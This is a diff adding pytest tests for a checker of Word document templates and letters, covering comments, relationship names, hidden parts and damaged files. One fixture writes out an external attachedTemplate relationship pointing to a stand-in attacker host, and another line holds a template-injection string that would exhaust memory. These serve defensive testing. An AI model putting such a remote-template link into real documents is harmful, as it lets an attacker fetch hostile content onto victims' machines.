@@ -288,3 +288,40 @@ class TestFiles:
 
 def test_a_finished_letter_may_have_what_looks_like_tags():
     check_letter(documents.letter("{{ anything", "{% goes %}", "{{ 'a' * 10**9 }}"))
+
+
+@pytest.mark.parametrize("check", [check_template, check_letter])
+def test_comments_between_the_types_and_relations_are_nothing(check):
+    commented = documents.replaced(FINE, TYPES, "</Types>", "<!-- made by a tool --></Types>")
+    check(documents.replaced(commented, RELS, "</Rel", "<!-- and this --></Rel"))
+
+
+@pytest.mark.parametrize("check", [check_template, check_letter])
+def test_relations_are_seen_however_their_name_is_written(check):
+    away = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" Target="http://evil.example/x" '
+        'TargetMode="External"/></Relationships>'
+    )
+    data = documents.rezipped(FINE, add={"word/_rels/other.xml.RELS": away})
+    assert "template" in messages_of(check, data)
+
+
+@pytest.mark.parametrize("check", [check_template, check_letter])
+def test_a_part_is_not_hidden_behind_another_name(check):
+    type_ = '<Override PartName="/word/hidden.dat" ContentType="application/x+xml"/></Types>'
+    data = documents.replaced(FINE, TYPES, "</Types>", type_)
+    assert "damaged" in messages_of(check, data)
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda name, content: content[:200] if name == "word/document.xml" else content,
+        lambda name, content: b"<a/>" if name == "word/document.xml" else content,
+        lambda name, content: b"<a/>" if name == RELS else content,
+        lambda name, content: b"<a/>" if name == "_rels/.rels" else content,
+    ],
+)
+def test_a_letter_that_cannot_be_opened_is_not_kept(change):
+    assert "damaged" in messages_of(check_letter, documents.rezipped(FINE, change=change))
